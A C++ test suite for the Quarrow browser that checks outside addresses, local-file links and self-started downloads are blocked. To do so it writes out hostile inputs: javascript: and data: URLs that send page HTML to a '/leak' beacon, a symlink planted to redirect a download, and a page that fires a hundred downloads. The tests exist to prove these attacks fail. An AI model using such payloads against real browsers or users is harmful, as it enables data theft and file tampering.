// Addresses that reach the window from outside or through a command of ours
// open as addresses, never as scripts, and a web page never has a local file
// opened on its behalf. A page that starts downloads by itself asks once.
#include "tests/browser/SiteWindowFixture.h"
#include "tests/support/Eventually.h"
#include "tests/support/TestSupport.h"

#include "platform/StatusBar.h"
#include "platform/WebBrowser.h"
#include "shell/Downloads.h"
#include "shell/Form1.h"
#include "windows/PageInfoWindow.h"

#include <QDir>
#include <QFileDialog>
#include <QFileInfo>
#include <QLineEdit>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>
#include <QTableView>
#include <QTest>
#include <QUuid>
#include <QWebEnginePage>
#include <QWebEngineSettings>

namespace {

class OutsideAddresses : public SiteWindowFixture {
protected:
    void SetUp() override
    {
        SiteWindowFixture::SetUp();
        ASSERT_TRUE(attack.isValid());
        secret = "QUARROW-SECRET-" + QUuid::createUuid().toByteArray(QUuid::WithoutBraces);
        secretPath = attack.path() + "/secret.txt";
        ASSERT_TRUE(testsupport::writeFile(secretPath, secret + "\n"));
        ASSERT_TRUE(testsupport::writeFile(attack.path() + "/pic.png", TestSite::pngBytes(4, 3)));
        localPage = attack.path() + "/local.html";
        ASSERT_TRUE(testsupport::writeFile(
            localPage, "<html><head><title>local</title></head><body><p>on disk</p>"
                       "<img src=\"pic.png\"><a href=\"secret.txt\">secret</a></body></html>"));
    }

    QString beacon(const QString &tag) const { return site.url("/leak?" + tag); }

    bool anyLeak()
    {
        for (const QByteArray &request : site.server().rawRequests()) {
            if (request.contains("/leak") || request.contains(secret))
                return true;
        }
        return false;
    }

    // Opens a page in the Browser view and waits for its harvest.
    void openLive(const QString &address)
    {
        const int before = form->harvestsDone();
        ASSERT_TRUE(view(0)->Navigate2(address));
        ASSERT_TRUE(waitForLoad(0));
        ASSERT_TRUE(waitForHarvests(before + 1));
    }

    // A round trip to the Browser view's page: whatever was sent to it
    // before has been dealt with once this answers.
    QString titleAfterRoundTrip() { return evaluate(0, "document.title").toString(); }

    QString status() const { return statusBar()->panelText(1); }

    QTemporaryDir attack;
    QByteArray secret;
    QString secretPath;
    QString localPage;
};

TEST_F(OutsideAddresses, AScriptFromTheDesktopNeverRunsInTheOpenPage)
{
    // A local page beside the secret, and then a web page that runs scripts.
    for (const QString &page : {localPage, site.url("/index.html")}) {
        SCOPED_TRACE(page.toStdString());
        openLive(page);
        const QString title = titleAfterRoundTrip();
        const QUrl shown = view(0)->url();
        form->openFromDesktop("javascript:document.title='ran';"
                              "fetch('" +
                              beacon("js") + "&d='+document.documentElement.outerHTML)");
        EXPECT_EQ(status(), "Quarrow does not open javascript: addresses given to it from outside");
        form->openFromDesktop("data:text/html,<img src='" + beacon("data") + "'>");
        EXPECT_EQ(status(), "Quarrow does not open data: addresses given to it from outside");
        EXPECT_EQ(titleAfterRoundTrip(), title);
        EXPECT_EQ(view(0)->url(), shown);
        EXPECT_FALSE(view(0)->Busy());
    }
    // An address handed over opens as a page of its own.
    form->openFromDesktop(site.url("/dir1/page2.html"));
    ASSERT_TRUE(waitForUrl(0, site.url("/dir1/page2.html")));
    EXPECT_EVENTUALLY(site.server().requests().contains("/dir1/b.png"), 15000);
    EXPECT_FALSE(anyLeak());
}

TEST_F(OutsideAddresses, ATypedScriptNeverTurnsALocalPagesScriptsOn)
{
    openLive(localPage);
    const QString title = titleAfterRoundTrip();
    addressBox()->setText("javascript:document.title='ran';new Image().src='" + beacon("typed") +
                          "'");
    form->action(Command::Go)->trigger();
    EXPECT_EQ(status(), "Not run: this page runs no scripts");
    EXPECT_FALSE(view(0)->page()->settings()->testAttribute(QWebEngineSettings::JavascriptEnabled));
    EXPECT_EQ(titleAfterRoundTrip(), title);
    // A Refresh then runs no script either.
    form->action(Command::Refresh)->trigger();
    ASSERT_TRUE(waitForLoad(0));
    EXPECT_EQ(titleAfterRoundTrip(), "local");
    EXPECT_FALSE(anyLeak());
}

TEST_F(OutsideAddresses, TheLinksTabOpensNoLocalFileForAWebPage)
{
    // A web page that links to the user's secret.
    site.server().setRoute("/links.html",
                           ("<html><head><title>links</title></head><body>"
                            "<a href=\"" +
                            QUrl::fromLocalFile(secretPath).toString() +
                            "\">secret</a> <a href=\"/dir1/page2.html\">two</a></body></html>")
                               .toUtf8());
    openLive(site.url("/links.html"));
    form->action(Command::PageInfo)->trigger();
    QPointer<PageInfoWindow> window = form->pageInfoWindow();
    ASSERT_TRUE(window);
    EXPECT_EVENTUALLY(QUrl(window->inventory().pageAddress) == QUrl(site.url("/links.html")),
                      15000);
    auto *links = window->findChild<QTableView *>("linksTable");
    ASSERT_NE(links, nullptr);
    EXPECT_EVENTUALLY(links->model()->rowCount() == 2, 10000);

    // Each row opened as a user would: Enter on it.
    const QUrl shown = view(0)->url();
    bool refused = false, opened = false;
    for (int row = 0; row < links->model()->rowCount(); ++row) {
        const QModelIndex index = links->model()->index(row, 0);
        const QString address = window->inventory().links.value(row).address;
        links->setCurrentIndex(index);
        emit links->activated(index);
        if (address.startsWith("file:")) {
            EXPECT_TRUE(status().startsWith("Not opened: a web page may not lead to the local "
                                            "file"))
                << status().toStdString();
            EXPECT_EQ(view(0)->url(), shown);
            refused = true;
        } else {
            EXPECT_TRUE(waitForUrl(0, site.url("/dir1/page2.html")));
            opened = true;
        }
    }
    EXPECT_TRUE(refused);
    EXPECT_TRUE(opened);
    EXPECT_NE(view(0)->url(), QUrl::fromLocalFile(secretPath));
}

TEST_F(OutsideAddresses, PageInfoOpensALocalPagesOwnFiles)
{
    openLive(localPage);
    form->action(Command::PageInfo)->trigger();
    QPointer<PageInfoWindow> window = form->pageInfoWindow();
    ASSERT_TRUE(window);
    EXPECT_EVENTUALLY(QUrl(window->inventory().pageAddress) == QUrl::fromLocalFile(localPage),
                      15000);
    emit window->openRequested(QUrl::fromLocalFile(attack.path() + "/pic.png"));
    EXPECT_TRUE(waitForUrl(0, QUrl::fromLocalFile(attack.path() + "/pic.png").toString()));
    // Scripts and data documents are never opened on a page's behalf.
    emit window->openRequested(QUrl("javascript:document.title='ran'"));
    EXPECT_EQ(status(), "Quarrow does not open javascript: addresses on a page's behalf");
    emit window->openRequested(QUrl("data:text/html,<b>x</b>"));
    EXPECT_EQ(status(), "Quarrow does not open data: addresses on a page's behalf");
}

TEST_F(OutsideAddresses, TheGeneratedViewsOfAWebPageLeadToNoLocalFile)
{
    openLive(site.url("/index.html"));
    ASSERT_TRUE(waitForGeneratedViews());
    const QUrl generated = view(1)->url();
    const QString target = QUrl::fromLocalFile(secretPath).toString();
    // The generated page runs no script of its own; the test's script puts a
    // link at its top, and the user clicks it.
    const QString plant =
        "(function(){var a=document.createElement('a');a.href=" + WebBrowser::scriptString(target) +
        ";a.textContent='secret';a.style='position:fixed;left:0;top:0;"
        "width:200px;height:100px;display:block;background:red';"
        "document.body.appendChild(a);return 1;})()";
    const auto follow = [this, &plant] {
        showView(1);
        // A busy machine may answer late: asked again until it answers.
        QUARROW_WAIT_UNTIL(evaluate(1, plant, 2000).toInt() == 1, 30000);
        ASSERT_EQ(evaluate(1, "document.querySelectorAll('a[style]').length > 0").toBool(), true);
        QWidget *surface = view(1)->focusProxy() ? view(1)->focusProxy() : view(1);
        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(50, 50));
    };
    QSignalSpy refused(view(1), &WebBrowser::navigationRefused);
    follow();
    EXPECT_EVENTUALLY(refused.count() == 1, 10000);
    ASSERT_EQ(refused.count(), 1);
    EXPECT_EQ(refused.constFirst().at(1).toString(),
              "Not opened: a web page may not lead to the local file " + target);
    EXPECT_EQ(view(1)->url(), generated);

    // Send to Browser from there opens no local file either.
    showView(1);
    const int sent = form->harvestsDone();
    form->action(Command::SendToBrowser)->trigger();
    ASSERT_TRUE(waitForLoad(0));
    EXPECT_NE(view(0)->url(), QUrl::fromLocalFile(secretPath));
    // The page sent has a harvest of its own.
    ASSERT_TRUE(waitForHarvests(sent + 1));

    // The generated views of a local page lead to its files.
    openLive(localPage);
    ASSERT_TRUE(waitForGeneratedViews());
    follow();
    EXPECT_TRUE(waitForUrl(1, target));
}

// Counts the dialogs that show, answering each as it comes.
class DialogCounter {
public:
    DialogCounter(std::function<void(QFileDialog *)> saveAs,
                  std::function<void(QMessageBox *)> question)
        : m_saveAs(std::move(saveAs)), m_question(std::move(question))
    {
        QObject::connect(&m_timer, &QTimer::timeout, [this] { look(); });
        m_timer.start(20);
    }
    int saveAsDialogs = 0;
    int questions = 0;

private:
    void look()
    {
        for (QWidget *window : QApplication::topLevelWidgets()) {
            if (!window->isVisible() || m_seen.contains(window))
                continue;
            if (auto *dialog = qobject_cast<QFileDialog *>(window)) {
                m_seen.append(window);
                ++saveAsDialogs;
                m_saveAs(dialog);
            } else if (auto *box = qobject_cast<QMessageBox *>(window);
                       box && box->objectName() == "severalDownloadsQuestion") {
                m_seen.append(window);
                ++questions;
                m_question(box);
            }
        }
    }
    std::function<void(QFileDialog *)> m_saveAs;
    std::function<void(QMessageBox *)> m_question;
    QList<QPointer<QWidget>> m_seen;
    QTimer m_timer;
};

class PageDownloads : public OutsideAddresses {
protected:
    void SetUp() override
    {
        OutsideAddresses::SetUp();
        ASSERT_TRUE(QDir().mkpath(Downloads::startFolder()));
        ASSERT_TRUE(QDir().mkpath(into.path()));
        downloads = form->findChild<Downloads *>();
        ASSERT_NE(downloads, nullptr);
    }

    // A page that starts `count` downloads by itself, one after another.
    void servePageOfDownloads(int count)
    {
        for (int i = 0; i < count; ++i)
            site.server().setRoute(QString("/files/f%1.bin").arg(i), "payload",
                                   "application/octet-stream");
        site.server().setRoute(
            "/many.html",
            QString("<html><head><title>many</title></head><body><script>"
                    "var n = 0;"
                    "function next() {"
                    "  if (n >= %1) { document.title = 'all asked'; return; }"
                    "  var a = document.createElement('a');"
                    "  a.href = '/files/f' + n + '.bin'; a.download = 'f' + n + '.bin';"
                    "  document.body.appendChild(a); a.click(); ++n;"
                    "  setTimeout(next, 10);"
                    "}"
                    "next();"
                    "</script></body></html>")
                .arg(count)
                .toUtf8());
    }

    int fileRequests()
    {
        int n = 0;
        for (const QString &path : site.server().requests())
            n += path.startsWith("/files/f") ? 1 : 0;
        return n;
    }

    static void saveInto(QFileDialog *dialog, const QString &path)
    {
        auto *name = dialog->findChild<QLineEdit *>("fileNameEdit");
        name->setText(path);
        QTest::keyClick(name, Qt::Key_Return);
    }

    QTemporaryDir into;
    Downloads *downloads = nullptr;
};

TEST_F(PageDownloads, AHundredDownloadsByThemselvesAskOnceAndAreBlocked)
{
    const int count = 100;
    servePageOfDownloads(count);
    const QString first = into.path() + "/first.bin";
    DialogCounter dialogs([first](QFileDialog *dialog) { saveInto(dialog, first); },
                          [](QMessageBox *box) {
                              EXPECT_EQ(box->text(), "127.0.0.1 wants to download several files");
                              // The default answer is the safe one.
                              EXPECT_EQ(box->defaultButton()->text(), "Block");
                              box->defaultButton()->click();
                          });
    ASSERT_TRUE(view(0)->Navigate(site.url("/many.html")));
    EXPECT_EVENTUALLY(view(0)->title() == "all asked", 60000);
    // Every offer that reached the window is decided once the count of the
    // blocked ones matches the offers, less the first.
    EXPECT_EVENTUALLY(
        downloads->offersSeen() > 2 &&
            statusBar()->panelText(2) ==
                QString("Blocked %1 downloads from 127.0.0.1").arg(downloads->offersSeen() - 1),
        60000);
    EXPECT_GE(fileRequests(), downloads->offersSeen());
    EXPECT_EQ(dialogs.saveAsDialogs, 1);
    EXPECT_EQ(dialogs.questions, 1);
    EXPECT_EQ(QDir(into.path()).entryList(QDir::Files), QStringList{"first.bin"});
    EXPECT_FALSE(downloads->busy());
}

TEST_F(PageDownloads, AllowedDownloadsFollowTheFirstOneWithoutADialog)
{
    const int count = 6;
    servePageOfDownloads(count);
    DialogCounter dialogs(
        [this](QFileDialog *dialog) { saveInto(dialog, into.path() + "/f0.bin"); },
        [](QMessageBox *box) {
            for (QAbstractButton *button : box->buttons()) {
                if (button->text() == "Allow")
                    button->click();
            }
        });
    // A link planted under the name of one of them, leading out of the folder.
    QTemporaryDir outside;
    ASSERT_TRUE(QFile::link(outside.path() + "/stolen.bin", into.path() + "/f3.bin"));
    ASSERT_TRUE(view(0)->Navigate(site.url("/many.html")));
    QStringList expected;
    for (int i = 0; i < count; ++i)
        expected.append(i == 3 ? QString("f3 (2).bin") : QString("f%1.bin").arg(i));
    // The engine writes each into a part file first; done, they have their names.
    const auto saved = [this] {
        QStringList names = QDir(into.path()).entryList(QDir::Files);
        names.sort();
        return names;
    };
    EXPECT_EVENTUALLY(saved() == expected, 60000);
    EXPECT_EQ(saved(), expected);
    EXPECT_EQ(dialogs.saveAsDialogs, 1);
    EXPECT_EQ(dialogs.questions, 1);
    EXPECT_FALSE(QFileInfo::exists(outside.path() + "/stolen.bin"));
    EXPECT_EVENTUALLY(!downloads->busy(), 30000);
}

TEST_F(PageDownloads, ADownloadAfterAClickIsTheUsersOwn)
{
    site.server().setRoute("/files/one.bin", "one", "application/octet-stream");
    site.server().setRoute("/files/two.bin", "two", "application/octet-stream");
    site.server().setRoute("/two.html", "<html><head><title>two</title></head><body>"
                                        "<a id=one href=\"/files/one.bin\">one</a> "
                                        "<a id=two href=\"/files/two.bin\">two</a></body></html>");
    openLive(site.url("/two.html"));
    DialogCounter dialogs(
        [this](QFileDialog *dialog) {
            saveInto(dialog,
                     into.path() + "/" + dialog->findChild<QLineEdit *>("fileNameEdit")->text());
        },
        [](QMessageBox *box) { box->reject(); });
    // Each link clicked by the user: a Save As each, no question.
    for (const char *id : {"one", "two"}) {
        const QVariant rect =
            evaluate(0, QString("(function(){var r=document.getElementById('%1')"
                                ".getBoundingClientRect();return [r.x+2,r.y+2];})()")
                            .arg(id));
        const QVariantList xy = rect.toList();
        ASSERT_EQ(xy.size(), 2);
        QWidget *surface = view(0)->focusProxy() ? view(0)->focusProxy() : view(0);
        QTest::mouseClick(surface, Qt::LeftButton, {},
                          QPoint(int(xy[0].toDouble()), int(xy[1].toDouble())));
        EXPECT_EVENTUALLY(QFile::exists(into.path() + "/" + id + ".bin"), 30000);
    }
    EXPECT_EQ(dialogs.saveAsDialogs, 2);
    EXPECT_EQ(dialogs.questions, 0);
}

} // namespace
